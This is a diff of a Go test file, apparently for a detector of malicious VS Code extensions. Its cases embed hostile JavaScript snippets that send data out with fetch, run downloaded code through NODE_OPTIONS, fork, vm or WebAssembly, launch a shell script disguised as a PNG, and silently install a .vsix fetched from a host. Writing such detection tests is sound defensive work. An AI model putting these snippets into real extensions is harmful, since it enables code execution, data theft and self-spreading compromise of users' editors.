@@ -75,7 +75,8 @@ func TestWhatPagesAreShown(t *testing.T) {
 	testTwins(t, []twin{
 		{"a hidden image in a notebook", cell(image(hidden)), cell(image(shown)), chainTextSent},
 		{
-			"a page that is told keys and sends", page(`"onmessage = (e) => fetch('" + ORIGIN + "/f/' + e.data.name, { method: 'POST', body: e.data.data })"`),
+			"a page that is told keys and sends",
+			page(`"onmessage = (e) => fetch('" + ORIGIN + "/f/' + e.data.name, { method: 'POST', body: e.data.data })"`),
 			page(`"onmessage = (e) => show(e.data.data); fetch('" + ORIGIN + "/style.css')"`), chainTextSent,
 		},
 	})
@@ -112,13 +113,19 @@ func TestFetchedCodeRuns(t *testing.T) {
 		{"fork", get(`cp.fork(to);`), benign, chainDownloadAndRun},
 		{"node with --require", get(`cp.spawn('node', ['--require', to, 'x.js'], { detached: true });`), benign, chainDownloadAndRun},
 		{"import", get(`import(to);`), benign, chainDownloadAndRun},
-		{"NODE_OPTIONS of terminals", get(`context.environmentVariableCollection.replace('NODE_OPTIONS', '--require ' + to);`), benign, chainDownloadAndRun},
+		{
+			"NODE_OPTIONS of terminals",
+			get(`context.environmentVariableCollection.replace('NODE_OPTIONS', '--require ' + to);`), benign, chainDownloadAndRun,
+		},
 		{
 			"NODE_OPTIONS and the storage",
 			strings.ReplaceAll(get(`context.environmentVariableCollection.append('NODE_OPTIONS', ' --require ' + to);`),
 				"os.tmpdir()", "context.globalStorageUri.fsPath"), benign, chainDownloadAndRun,
 		},
-		{"NODE_OPTIONS of a child", get(`cp.spawn('npm', ['test'], { env: { ...process.env, NODE_OPTIONS: '--require ' + to } });`), benign, chainDownloadAndRun},
+		{
+			"NODE_OPTIONS of a child",
+			get(`cp.spawn('npm', ['test'], { env: { ...process.env, NODE_OPTIONS: '--require ' + to } });`), benign, chainDownloadAndRun,
+		},
 		{"text of the file in vm", get(`require('vm').runInThisContext(fs.readFileSync(to, 'utf8'));`), benign, chainDownloadAndRun},
 		{"WebAssembly", get(`WebAssembly.instantiate(fs.readFileSync(to), {});`), benign, chainDownloadAndRun},
 	})
@@ -135,4 +142,19 @@ func TestPicturesAreNoPrograms(t *testing.T) {
 		"a program that is called a picture", saved("card.png", `cp.spawn('sh', [f], { detached: true });`),
 		saved("card.png", `cp.spawn('xclip', ['-selection', 'clipboard', '-t', 'image/png', '-i', f]);`), chainDownloadAndRun,
 	}})
+}
+
+// An extension that a person chose and that comes from where a setting says is no worm.
+func TestGalleriesOfATeam(t *testing.T) {
+	install := func(base, by string) string {
+		return kindsOf(`const install = async () => { const base = ` + base + `;
+			const r = await fetch(base + '/a.vsix'); const uri = vscode.Uri.joinPath(context.globalStorageUri, 'a.vsix');
+			await vscode.workspace.fs.writeFile(uri, Buffer.from(await r.arrayBuffer()));
+			await vscode.commands.executeCommand('workbench.extensions.installExtension', uri); };` + by)
+	}
+	const setting, command = `vscode.workspace.getConfiguration('team').get('gallery')`, `vscode.commands.registerCommand('x.sync', install);`
+	testTwins(t, []twin{
+		{"a host that the code names", install(`'https://vsix.example'`, command), install(setting, command), chainSpreads},
+		{"at start", install(setting, `install();`), install(setting, command), chainSpreads},
+	})
 }
